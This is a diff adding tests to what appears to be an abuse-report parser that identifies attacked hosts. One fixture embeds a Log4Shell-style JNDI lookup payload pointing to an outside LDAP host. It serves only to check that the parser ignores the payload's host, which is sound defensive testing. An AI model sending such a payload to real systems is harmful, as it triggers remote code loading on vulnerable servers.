@@ -221,3 +221,17 @@ def test_a_record_of_whois_names_no_victim() -> None:
     record = "NetRange: 185.220.100.0 - 185.220.103.255\nComment: our server is {}\n"
     text = f"{OWN} attacks us.\n\n{record.format('91.1.2.3')}\nOur server: {VICTIM}\n"
     assert destinations(read(text)) == [VICTIM]
+
+
+def test_what_a_payload_would_load_is_no_victim() -> None:
+    """The host of a link inside a request is not the one that was attacked."""
+    row = (
+        f'{{"src_ip":"{OWN}","dest_ip":"{VICTIM}","url":"/?x=${{jndi:ldap://{ACCUSED}:1389/a}}"}}\n'
+    )
+    assert destinations(read(f"Attack:\n{row}")) == [VICTIM]
+
+
+def test_a_private_address_beside_is_no_victim() -> None:
+    """A balancer in the same log line is no destination; one with a port may be the victim."""
+    row = f'{{"client":"{OWN}","lb":"10.20.0.7","method":"GET"}}\n'
+    assert destinations(read(f"It scrapes our site:\n{row}")) == []
